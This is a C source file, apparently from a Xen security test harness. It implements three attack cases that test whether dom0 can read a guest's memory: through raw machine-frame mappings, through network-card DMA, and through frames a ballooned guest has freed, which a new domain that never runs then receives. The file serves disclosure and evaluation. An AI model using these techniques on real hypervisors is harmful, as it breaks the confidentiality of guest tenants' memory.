/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: a guest's frames by other names
 *
 * Claim:  dom0 reads a guest's page by machine frame, as its own kernel or a
 *         device of its own sees it; and what a guest has given back.
 * Method: MMU_PT_UPDATE_NO_TRANSLATE (../../system/rawmfn) and a network
 *         card's DMA (../../system/dma) of the frames that Xen's table names;
 *         a new domain of dom0's, which never runs, gets the frames that the
 *         guest's balloon has freed.
 * Stock:  the owner's permission is not asked; a PV dom0's devices reach all
 *         memory; frames of a living domain are freed as they are.
 */
#include <stdio.h>
#include <string.h>

#include "../attack.h"

#define CANDIDATES 8
#define FREED 480
#define BATCH 64

/* "FRAME,FRAME,..." twice each: what the modules want. */
static unsigned int ranges(char *text, size_t size)
{
    unsigned long mfn[CANDIDATES];
    unsigned int i, n = frames_of_lines(mfn, CANDIDATES);
    size_t used = 0;

    text[0] = 0;
    for ( i = 0; i < n && used < size; i++ )
        used += snprintf(text + used, size - used, "%s%lu,%lu", i ? "," : "",
                         mfn[i], mfn[i]);
    return n;
}

static enum verdict raw_frame(struct victim *v)
{
    char list[256], arguments[320];
    unsigned int n = ranges(list, sizeof(list));
    long lines;

    snprintf(arguments, sizeof(arguments), "domid=%u ram=%s", v->id, list);
    lines = module_result("rawmfn", arguments, "lines");
    if ( lines < 0 && n )
        return verdict(ERROR, "the module does not load");
    return verdict(lines > 0 ? SUCCESS : FAILURE, "%ld lines in %u frames",
                   lines, n);
}
ATTACK(raw_frame, .needs = SHARED, .frames = true, .pv_only = true);

static enum verdict nic_dma(struct victim *v)
{
    char list[256], arguments[320];
    unsigned int n = ranges(list, sizeof(list));
    long lines;

    snprintf(arguments, sizeof(arguments), "ram=%s", list);
    lines = module_result("nicdma", arguments, "lines");
    if ( lines < 0 && n )
        return verdict(ERROR, "the module does not load");
    return verdict(lines > 0 ? SUCCESS : FAILURE,
                   "%ld lines in %u frames, d%u", lines, n, v->id);
}
/* A PVH dom0's devices see its own memory only, on stock Xen, too. */
ATTACK(nic_dma, .needs = SHARED, .frames = true, .pv_only = true);

static int new_domain(uint32_t *id)
{
    struct xen_domctl_createdomain config = {
        .flags = XEN_DOMCTL_CDF_hvm | XEN_DOMCTL_CDF_hap,
        .max_vcpus = 1,
        .max_evtchn_port = -1,
        .max_grant_frames = -1,
        .max_maptrack_frames = -1,
        .grant_opts = XEN_DOMCTL_GRANT_version(1),
        .arch.emulation_flags = XEN_X86_EMU_LAPIC,
    };

    *id = 0;
    if ( xc_domain_create(xch, id, &config) )
        return -1;
    if ( xc_set_paging_mempool_size(xch, *id, 4 << 20) ||
         xc_domain_setmaxmem(xch, *id, -1) )
        return -1;
    return 0;
}

static unsigned long markers_in_domain(uint32_t id, unsigned long pages)
{
    unsigned long gfn, found = 0;

    for ( gfn = 0; gfn < pages; gfn++ )
    {
        void *page = map_page(id, gfn, false);

        if ( page )
            found += markers_in(page, PAGE);
        unmap_page(page);
    }
    return found;
}

static enum verdict freed_frames(struct victim *v)
{
    unsigned long found, gfn;
    uint32_t id;

    /* First, or its tables would get the frames. */
    if ( new_domain(&id) )
        return verdict(ERROR, "no new domain");
    victim_unpause(v);
    if ( !victim_says(v, "freed", 30) )
        return verdict(ERROR, "the guest frees nothing");
    for ( gfn = 0; gfn < FREED; gfn++ )
    {
        xen_pfn_t pfn = gfn;

        if ( xc_domain_populate_physmap_exact(xch, id, 1, 0, 0, &pfn) )
            break;
    }
    found = markers_in_domain(id, gfn);
    xc_domain_destroy(xch, id);
    return verdict(found ? SUCCESS : FAILURE, "%lu markers in %lu new pages",
                   found, gfn);
}
ATTACK(freed_frames, .needs = BUILT, .extra = "free");
